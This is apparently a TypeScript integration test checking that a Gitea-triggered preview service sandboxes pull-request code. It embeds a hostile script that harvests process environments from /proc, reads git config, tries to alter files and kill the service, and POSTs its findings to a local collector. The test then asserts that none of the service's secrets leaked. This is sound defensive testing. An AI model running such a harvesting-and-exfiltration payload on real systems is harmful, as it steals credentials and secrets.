import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { text } from "node:stream/consumers";
import { z } from "zod";
import { makeReport } from "../../core/previews/report.ts";
import { until } from "../../sandbox/process.ts";
import { GiteaPeople, type Person } from "../support/gitea-people.ts";
import { PreviewedRepository } from "../support/previewed-repository.ts";
import { type ServiceProcess, startService } from "../support/service-process.ts";
import { createTestStore, type TestStore } from "../support/test-store.ts";
import { variable } from "../support/variables.ts";

const SECRET = `planted-forge-secret-${randomBytes(16).toString("hex")}`;
/** In ms: a preview starts several processes. */
const PATIENCE = 60_000;

/** Looks for everything that the service has, tries to change its checkout, and writes what it found. */
const HOSTILE = `
import { readFileSync, readdirSync, writeFileSync } from "node:fs";
const attempt = (work) => { try { return work(); } catch (error) { return error.code; } };
const pids = readdirSync("/proc").filter((name) => /^\\d+$/.test(name));
const found = {
  variables: Object.keys(process.env).sort(),
  values: [...pids, "self"].map((pid) => attempt(() => readFileSync(\`/proc/\${pid}/environ\`, "utf8"))),
  processes: pids.map((pid) => attempt(() => readFileSync(\`/proc/\${pid}/cmdline\`, "utf8"))),
  file: attempt(() => readFileSync("PLANTED_FILE", "utf8")),
  config: attempt(() => readFileSync("/checkout/.git/config", "utf8")),
  change: attempt(() => writeFileSync("/checkout/package.json", "{}")),
  service: attempt(() => process.kill(SERVICE_PID, 0)),
};
const value = (name) => process.argv[process.argv.indexOf(name) + 1];
await fetch("COLLECTOR", { method: "POST", body: JSON.stringify(found) });
const report = { ...REPORT, commit: value("--commit") };
writeFileSync(value("--report"), JSON.stringify(report));
`;

const finding = z.object({
  variables: z.array(z.string()),
  values: z.array(z.string()),
  processes: z.array(z.string()),
  file: z.string(),
  config: z.string(),
  change: z.string(),
  service: z.string(),
});

describe("a preview that Gitea's webhook asks the service for", function () {
  this.timeout(400_000);
  const people = new GiteaPeople();
  let [bot, ada, reader, author]: Person[] = [];
  let repository: PreviewedRepository;
  let folder: string;
  let database: TestStore;
  let service: ServiceProcess;
  /** What the pull request's code sends to somebody. */
  const collected: string[] = [];
  let collector: { readonly url: string; close(): Promise<void> };

  before(async () => {
    const scopes = ["write:repository", "write:issue"];
    bot = await people.add("bot", ...scopes);
    ada = await people.add("ada", ...scopes);
    reader = await people.add("reader", ...scopes);
    author = await people.add("author", ...scopes);
    repository = await PreviewedRepository.create({
      bot,
      others: [
        [ada, "write"],
        [author, "write"],
        [reader, "read"],
      ],
      auto_init: true,
    });
    collector = await startCollector(collected);
    folder = await mkdtemp(join(tmpdir(), "rdev-forge-"));
    const file = join(folder, "previews.yaml");
    const previews = { url: variable("GITEA_URL"), repository: repository.fullName };
    await writeFile(file, JSON.stringify({ forge: "gitea", ...previews }));
    database = await createTestStore();
    service = await startService({
      variables: {
        DATABASE_URL: database.url,
        HOME: folder,
        RDEV_INFRA_PREVIEWS_FILE: file,
        RDEV_INFRA_FORGE_SECRET: SECRET,
        GITEA_COMMENT_TOKEN: bot.token,
      },
    });
    await repository.addWebhook(service.url, SECRET);
  });
  after(async () => {
    const { stdout, stderr } = await service.stop();
    assert.ok(!(stdout + stderr).includes(SECRET));
    await database.drop();
    await repository.remove();
    await people.remove();
    await rm(folder, { recursive: true, force: true });
    await collector.close();
  });

  const push = async (branch: string, files: Record<string, string>, from?: string) => {
    const changes = Object.entries(files).map(([path, text]) => ({
      operation: "create",
      path,
      content: Buffer.from(text).toString("base64"),
    }));
    type Made = { commit: { sha: string } };
    const { commit } = await repository.call<Made>("POST", "/contents", author!.token, {
      ...{ branch: from ?? branch, ...(from && { new_branch: branch }), files: changes },
    });
    return commit.sha;
  };
  const opened = async () => {
    const branch = `topic-${randomBytes(4).toString("hex")}`;
    const packages = { name: "infra", version: "1.0.0", type: "module" };
    const report = JSON.stringify(
      makeReport({ stacks: [], selection: "as the hostile code says", durationMs: 1 }),
    );
    const head = await push(
      branch,
      {
        "package.json": JSON.stringify(packages),
        "package-lock.json": JSON.stringify({
          ...packages,
          lockfileVersion: 3,
          packages: { "": { name: "infra", version: "1.0.0" } },
        }),
        "cli/rdev-infra.js": HOSTILE.replace("REPORT", report)
          .replace("SERVICE_PID", String(process.pid))
          .replace("PLANTED_FILE", join(folder, "previews.yaml"))
          .replace("COLLECTOR", collector.url),
      },
      "main",
    );
    const json = { title: branch, head: branch, base: "main" };
    type Made = { number: number };
    const { number } = await repository.call<Made>("POST", "/pulls", author!.token, json);
    return { number, head, branch };
  };
  const status = async (commit: string) => {
    type Statuses = { statuses: { status: string; context: string }[] | null };
    const path = `/commits/${commit}/status`;
    const found = await repository.call<Statuses>("GET", path, bot!.token);
    return found.statuses?.find(({ context }) => context === "rdev-infra/preview")?.status;
  };
  const eventually = (check: () => unknown) => until(check, undefined, PATIENCE);
  /** Waits until the service knows the branch for longer than the second that Gitea's times are in. */
  const known = (commit: string) =>
    eventually(async () => {
      const rows = await database.admin(`
        SELECT FROM pull_request_heads
        WHERE commit = '${commit}' AND seen_at < now() - interval '1 second'`);
      assert.ok(rows.length > 0, "the event did not arrive");
    });

  it("shows exactly the requested commit, whose code gets nothing of the service", async () => {
    const pull = await opened();
    await known(pull.head);
    await repository.say(pull.number, reader!, "/preview");
    await repository.say(pull.number, ada!, "/preview");
    await eventually(async () => {
      const shown = await status(pull.head);
      assert.equal(shown, "success", (await repository.answers(pull.number)).join());
    });
    await eventually(async () => {
      const [comment, ...more] = await repository.answers(pull.number);
      assert.match(comment ?? "", /<code>as the hostile code says<\/code>/);
      assert.deepEqual(more, []);
    });
    const found = finding.parse(JSON.parse(collected[0] ?? ""));
    assert.ok(found.variables.includes("PULUMI_BACKEND_URL"));
    for (const name of ["DATABASE_URL", "GITEA_COMMENT_TOKEN", "RDEV_INFRA_FORGE_SECRET"]) {
      assert.ok(!found.variables.includes(name), name);
    }
    const all = JSON.stringify(found);
    for (const secret of [
      SECRET,
      bot!.token,
      variable("GITEA_TOKEN"),
      variable("CITADEL_API_KEY"),
      variable("POWERDNS_API_KEY"),
      variable("REGISTRY_PASSWORD"),
      new URL(variable("POSTGRES_ADMIN_URL")).password,
      new URL(database.url).password,
    ]) {
      assert.ok(secret === "" || !all.includes(secret));
    }
    assert.deepEqual([found.file, found.change, found.service], ["ENOENT", "EROFS", "ESRCH"]);
    await eventually(async () => {
      const audited = await database.admin(`
        SELECT actor FROM audit_log WHERE action = 'preview.run' AND result = 'success'`);
      assert.deepEqual(audited, [{ actor: ada!.name }]);
    });

    // The branch moves on: the older commit is not previewed any more, and no other in its place.
    const newer = await push(pull.branch, { "more.txt": "more" });
    await known(newer);
    await repository.say(pull.number, ada!, `/preview ${pull.head}`);
    await eventually(async () =>
      assert.match((await repository.answers(pull.number)).join(), /its branch is at/),
    );
    assert.equal(await status(newer), undefined);
    await repository.call("POST", `/pulls/${pull.number}/reviews`, ada!.token, {
      event: "APPROVED",
      body: "looks good",
    });
    await eventually(async () => assert.equal(await status(newer), "success"));
    const kept = await readdir(join(folder, ".cache/rdev-infra/previews"));
    assert.deepEqual(kept.toSorted(), [pull.head, newer].toSorted());
  });
});

async function startCollector(collected: string[]) {
  const server = createServer((request, response) => {
    void text(request).then((body) => {
      collected.push(body);
      response.end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/`,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}
